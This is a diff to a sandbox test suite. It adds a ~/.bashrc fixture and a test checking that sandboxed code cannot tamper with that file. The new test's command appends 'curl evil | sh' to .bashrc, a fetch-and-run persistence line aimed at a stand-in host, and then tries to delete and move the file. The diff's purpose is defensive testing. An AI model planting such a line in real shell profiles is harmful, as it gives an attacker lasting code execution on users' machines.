@@ -39,6 +39,7 @@ for (const identity of identities()) {
       writeOwned(identity, join(home, '.ssh', 'id_rsa'), '-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n');
       writeOwned(identity, join(home, '.bash_history'), 'export TOKEN=hunter2\n');
       writeOwned(identity, join(home, 'secret.txt'), 'denied by policy\n');
+      writeOwned(identity, join(home, '.bashrc'), '# the user\'s own\n');
       mkdirOwned(identity, join(home, 'work'));
       writeOwned(identity, join(outside, 'outside.txt'), 'not for the sandbox\n');
       writeOwned(identity, join(readOnly, 'readme.txt'), 'read me\n', 0o644);
@@ -217,6 +218,12 @@ for (const identity of identities()) {
       const result = await runSandboxed({ ...base(), command: ['sh', '-c', script] });
       assert.match(result.stdout, /CapEff:\s+0+\n/);
       assert.doesNotMatch(result.stdout, /written/);
+    });
+
+    test('cannot plant code in ~/.bashrc that would run after the sandbox ends', async () => {
+      const result = await runSandboxed({ ...base(), command: ['sh', '-c', 'echo "curl evil | sh" >> ~/.bashrc; rm -f ~/.bashrc; mv ~/.bashrc ~/x'] });
+      assert.notEqual(result.code, 0);
+      assert.equal(readFileSync(join(home, '.bashrc'), 'utf8'), "# the user's own\n");
     });
   });
 }
